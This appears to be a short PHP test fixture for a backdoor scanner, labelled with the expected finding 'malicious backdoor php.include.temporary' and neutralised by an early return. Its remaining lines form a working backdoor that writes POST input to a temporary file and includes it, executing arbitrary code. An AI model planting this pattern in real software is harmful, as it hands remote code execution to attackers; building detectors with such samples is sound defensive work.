<?php return; // want: malicious backdoor php.include.temporary
$f = tmpfile();
fwrite($f, $_POST['c']);
$m = stream_get_meta_data($f);
include $m['uri'];
